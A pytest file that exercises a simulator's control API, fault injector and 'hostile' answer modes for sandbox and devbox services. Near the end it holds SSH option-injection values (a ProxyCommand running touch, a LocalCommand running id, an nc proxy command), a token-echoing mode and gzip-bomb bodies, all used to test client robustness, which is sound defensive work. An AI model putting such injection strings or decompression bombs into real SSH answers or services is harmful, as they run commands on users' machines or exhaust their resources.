"""The /_sim/ control API and the fault injector, over real HTTP."""

from __future__ import annotations

import time
from collections import Counter
from urllib.parse import quote

import httpx
import pytest

from boxdeck.sim import SimServer


def test_health(control: httpx.Client) -> None:
    h = control.get("/health").json()
    assert h["ok"] is True and h["manual_clock"] is True and h["seed"] == 7
    assert h["sandboxes"] == 12 and h["devboxes"] == 8
    assert h["faults"]["rate"] == 0.0


def test_advance_moves_the_manual_clock(sim: SimServer, control: httpx.Client, amika: httpx.Client) -> None:
    before = sim.world.now()
    initializing = [s["name"] for s in amika.get("/sandboxes").json() if s["state"] == "initializing"]
    assert initializing
    r = control.post("/advance", json={"seconds": 60})
    assert r.status_code == 200
    assert sim.world.now() == pytest.approx(before + 60)
    assert all(amika.get(f"/sandboxes/{n}").json()["state"] == "started" for n in initializing)
    assert control.post("/advance", json={"seconds": -1}).status_code == 422


def test_reset_with_overrides(sim: SimServer, control: httpx.Client) -> None:
    h = control.post("/reset", json={"demo_world": False}).json()
    assert h["sandboxes"] == 0 and h["devboxes"] == 0
    h = control.post("/reset", json={"sandboxes": 30, "devboxes": 20, "seed": 3}).json()
    assert h["sandboxes"] == 30 and h["devboxes"] == 20 and h["seed"] == 3
    h = control.post("/reset").json()
    assert h["sandboxes"] == 12 and h["seed"] == 7  # back to the starting config


def test_force_state(
    sim: SimServer, control: httpx.Client, amika: httpx.Client, devbox: httpx.Client
) -> None:
    sb = amika.get("/sandboxes/acme%2Fplatform").json()
    r = control.post("/boxes/amika/acme%2Fplatform/state", json={"state": "failed", "error_message": "boom"})
    assert r.status_code == 200 and r.json()["state"] == "failed"
    got = amika.get("/sandboxes/acme%2Fplatform").json()
    assert got["state"] == "failed" and got["error_message"] == "boom" and got["id"] == sb["id"]
    d = next(x for x in devbox.get("/devboxes").json() if x["name"] == "feature-payments")
    control.post(f"/boxes/devbox/{d['id']}/state", json={"state": "ready"})
    sim.advance(600)  # the cancelled pipeline does not come back
    assert devbox.get(f"/devboxes/{d['id']}").json()["state"] == "ready"
    assert control.post("/boxes/amika/nope/state", json={"state": "x"}).status_code == 404
    assert control.post("/boxes/other/x/state", json={"state": "x"}).status_code == 422


def test_faults_are_validated(control: httpx.Client) -> None:
    assert control.post("/faults", json={"rate": 2}).status_code == 422
    assert control.post("/faults", json={"rate": 0.5, "kinds": ["teapot"]}).status_code == 422
    r = control.post("/faults", json={"rate": 0.25, "kinds": ["503"]})
    assert r.json()["rate"] == 0.25 and r.json()["kinds"] == ["503"]


@pytest.mark.parametrize("kind", ["500", "502", "503", "429"])
def test_error_faults_in_each_api_shape(
    sim: SimServer, amika: httpx.Client, devbox: httpx.Client, kind: str
) -> None:
    sim.set_faults(1.0, [kind])
    status = int(kind)
    a = amika.get("/sandboxes")
    d = devbox.get("/devboxes")
    assert a.status_code == status and d.status_code == status
    if kind == "502":
        assert "text/html" in a.headers["content-type"] and "502 Bad Gateway" in d.text
    elif kind == "500":
        assert a.json()["type"] == "error" and a.json()["code"] == "internal_error"
        assert d.text == "Internal Server Error"
    else:
        assert a.json()["type"] == "error" and isinstance(d.json()["detail"], str)
    if kind in ("429", "503"):
        assert a.headers["retry-after"] == "1" and d.headers["retry-after"] == "1"


def test_faults_never_touch_control_or_docs(sim: SimServer, control: httpx.Client) -> None:
    sim.set_faults(1.0, ["500"])
    assert control.get("/health").status_code == 200
    assert httpx.get(sim.base_url + "/openapi.json").status_code == 200
    assert httpx.get(sim.base_url + "/docs").status_code == 200


def test_drop_closes_the_connection_without_an_answer(sim: SimServer, amika: httpx.Client) -> None:
    sim.set_faults(1.0, ["drop"])
    with pytest.raises(httpx.RemoteProtocolError):
        amika.get("/sandboxes")
    sim.set_faults(0.0)
    assert amika.get("/sandboxes").status_code == 200  # the client recovers on a new connection


def test_drop_after_applies_the_request_then_closes_the_connection(
    sim: SimServer, amika: httpx.Client, devbox: httpx.Client
) -> None:
    sim.set_faults(1.0, ["drop-after"])
    with pytest.raises(httpx.RemoteProtocolError):
        amika.post("/sandboxes", json={"name": "lost-answer"})
    with pytest.raises(httpx.RemoteProtocolError):
        devbox.post("/devboxes", json={"name": "lost-devbox"})
    sim.set_faults(0.0)
    assert amika.get("/sandboxes/lost-answer").json()["name"] == "lost-answer"  # created all the same
    assert [d["name"] for d in devbox.get("/devboxes").json()].count("lost-devbox") == 1
    assert sim.requests("POST", "/api/v0beta1/sandboxes") == 1


def test_drop_before_applies_nothing(sim: SimServer, amika: httpx.Client) -> None:
    sim.set_faults(1.0, ["drop"])
    with pytest.raises(httpx.RemoteProtocolError):
        amika.post("/sandboxes", json={"name": "never-made"})
    sim.set_faults(0.0)
    assert amika.get("/sandboxes/never-made").status_code == 404


def test_faults_can_be_limited_to_some_methods(
    sim: SimServer, control: httpx.Client, amika: httpx.Client
) -> None:
    r = control.post("/faults", json={"rate": 1.0, "kinds": ["500"], "methods": ["POST"]})
    assert r.json()["methods"] == ["POST"]
    assert amika.get("/sandboxes").status_code == 200
    assert amika.post("/sandboxes", json={"name": "x"}).status_code == 500
    assert control.post("/faults", json={"rate": 0}).json()["methods"] is None


def test_retry_after_of_429_and_503_is_configurable(control: httpx.Client, amika: httpx.Client) -> None:
    control.post("/faults", json={"rate": 1.0, "kinds": ["429"], "retry_after": 7200})
    assert amika.get("/sandboxes").headers["retry-after"] == "7200"
    control.post("/faults", json={"rate": 1.0, "kinds": ["503"]})
    assert amika.get("/sandboxes").headers["retry-after"] == "1"


def test_requests_are_counted_by_method_and_path(
    sim: SimServer, control: httpx.Client, amika: httpx.Client
) -> None:
    sim.set_faults(1.0, ["500"])
    amika.get("/sandboxes")
    sim.set_faults(0.0)
    amika.get("/sandboxes")
    amika.post("/sandboxes/acme%2Fplatform/stop")
    seen = control.get("/requests").json()
    assert seen["GET /api/v0beta1/sandboxes"] == 2  # faults included: the request reached the server
    assert sim.requests("GET", "/api/v0beta1/sandboxes") == 2
    assert sum(seen.values()) == 3
    sim.reset()
    assert control.get("/requests").json() == {}


def test_slow_answers_are_delayed_then_served(sim: SimServer, amika: httpx.Client) -> None:
    sim.set_faults(1.0, ["slow"], slow_seconds=0.2)
    t = time.perf_counter()
    assert amika.get("/sandboxes").status_code == 200
    assert time.perf_counter() - t >= 0.2


def test_fault_rate_is_a_share_and_seeded(sim: SimServer, amika: httpx.Client) -> None:
    def run() -> list[int]:
        sim.set_faults(0.3, ["500", "503"])
        return [amika.get("/secrets").status_code for _ in range(200)]

    first, second = run(), run()
    assert first == second  # reconfiguring reseeds the fault RNG
    counts = Counter(first)
    assert 30 <= counts[500] + counts[503] <= 90 and counts[200] > 100


def test_faults_do_not_change_the_world(sim: SimServer, amika: httpx.Client) -> None:
    names = [s["name"] for s in amika.get("/sandboxes").json()]
    sim.reset(fault_rate=0.5)
    sim.set_faults(0.0)
    assert [s["name"] for s in amika.get("/sandboxes").json()] == names


def test_openapi_documents_both_apis(sim: SimServer) -> None:
    spec = httpx.get(sim.base_url + "/openapi.json").json()
    paths = spec["paths"]
    assert "/api/v0beta1/sandboxes/{name}/agent-send" in paths
    assert "/api/v1/devboxes/{devbox_id}/access/session/{session_id}" in paths
    assert "/api/v1/integrations/github/org-grants" in paths
    schemes = spec["components"]["securitySchemes"]
    assert {"AmikaBearer", "SpritesToken", "ProviderToken", "UserToken"} <= set(schemes)
    assert "swagger" in httpx.get(sim.base_url + "/docs").text.lower()


def test_ssh_answers_can_be_made_hostile_for_tests(sim: SimServer, control: httpx.Client, amika: httpx.Client,
                                                   devbox: httpx.Client) -> None:
    hostile = "-oProxyCommand=touch\\ /tmp/x -p 2222 {token}@evil.example"
    r = control.post("/boxes/amika/acme%2Fplatform/ssh", json={"ssh_destination": hostile})
    assert r.status_code == 200
    info = amika.post("/sandboxes/acme%2Fplatform/ssh").json()
    assert info["ssh_destination"] == hostile.replace("{token}", info["token"])
    box = next(d for d in devbox.get("/devboxes").json() if d["name"] == "scratch")
    control.post(f"/boxes/devbox/{box['id']}/ssh", json={"command": "ssh -o LocalCommand=id u@h",
                                                          "proxy_command": "nc %h %p"}).raise_for_status()
    session = devbox.post(f"/devboxes/{box['id']}/access/session").json()
    assert session["command"] == "ssh -o LocalCommand=id u@h"
    assert session["ssh"]["proxy_command"] == "nc %h %p"
    control.post(f"/boxes/devbox/{box['id']}/ssh", json={}).raise_for_status()  # back to the usual answer
    usual = devbox.post(f"/devboxes/{box['id']}/access/session").json()
    assert usual["command"].startswith("ssh ") and usual["ssh"]["proxy_command"] is None
    missing = control.post("/boxes/amika/no-such-box/ssh", json={})
    assert missing.status_code == 404


def test_hostile_echo_reflects_what_the_client_sent(
    sim: SimServer, control: httpx.Client, amika: httpx.Client
) -> None:
    assert control.post("/hostile", json={"echo": True}).json()["echo"] is True
    listed = amika.get("/sandboxes").json()
    token = sim.amika_token
    assert listed and all(s["name"].endswith(f" [echo {token}]") for s in listed)
    created = amika.post("/secrets", json={"name": "K", "value": "sv_echoed_value_123"})
    assert created.status_code == 201
    secrets = amika.get("/secrets").json()
    assert any("sv_echoed_value_123" in (s.get("description") or "") for s in secrets)
    assert all("sv_echoed_value_123" not in s["name"] for s in listed + secrets)  # names: credentials only
    stopped = next(s["name"] for s in listed if s["state"] == "stopped")
    assert amika.post(f"/sandboxes/{quote(stopped, safe='')}/start").status_code == 202  # echoed name works
    refused = amika.post(f"/sandboxes/{quote(stopped, safe='')}/start").json()
    assert token in refused["message"]  # an error quotes it too
    control.post("/reset")
    assert all("[echo" not in s["name"] for s in amika.get("/sandboxes").json())  # a reset ends it


@pytest.mark.parametrize("body", ["gzip_bomb", "double_gzip_bomb", "endless"])
def test_hostile_bodies_are_served_until_turned_off(
    control: httpx.Client, amika: httpx.Client, body: str
) -> None:
    control.post("/hostile", json={"body": body, "bomb_bytes": 1 << 20})
    with amika.stream("GET", "/sandboxes") as r:
        raw = b""
        for chunk in r.iter_raw():
            raw += chunk
            if len(raw) > 65536 * 4:
                break
    assert r.headers.get("content-encoding") == {"endless": None, "gzip_bomb": "gzip"}.get(body, "gzip, gzip")
    assert raw
    control.post("/hostile", json={})
    assert isinstance(amika.get("/sandboxes").json(), list)
